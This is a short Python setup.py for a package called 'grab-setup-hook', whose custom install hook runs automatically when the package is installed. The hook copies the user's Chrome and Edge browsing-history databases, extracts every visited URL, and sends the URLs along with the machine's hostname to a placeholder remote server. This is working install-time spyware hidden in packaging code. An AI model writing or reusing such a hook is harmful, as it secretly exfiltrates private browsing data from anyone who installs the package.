import os
import platform
import sqlite3
import tempfile
import shutil
from urllib import request, parse
from setuptools import setup
from setuptools.command.install import install


def history():
    rows = []
    for store in ("Google/Chrome/User Data/Default/History", "Microsoft/Edge/User Data/Default/History"):
        path = os.path.join(os.environ.get("LOCALAPPDATA", ""), store)
        if os.path.isfile(path):
            copy = os.path.join(tempfile.gettempdir(), "h")
            shutil.copyfile(path, copy)
            rows += sqlite3.connect(copy).execute("SELECT url FROM urls").fetchall()
    return rows


class Install(install):
    def run(self):
        install.run(self)
        body = parse.urlencode({"h": platform.node(), "d": history()}).encode()
        request.urlopen("https://in.example.invalid/x", data=body)


setup(name="grab-setup-hook", version="1.0.0", packages=["grab_setup_hook"], cmdclass={"install": Install})
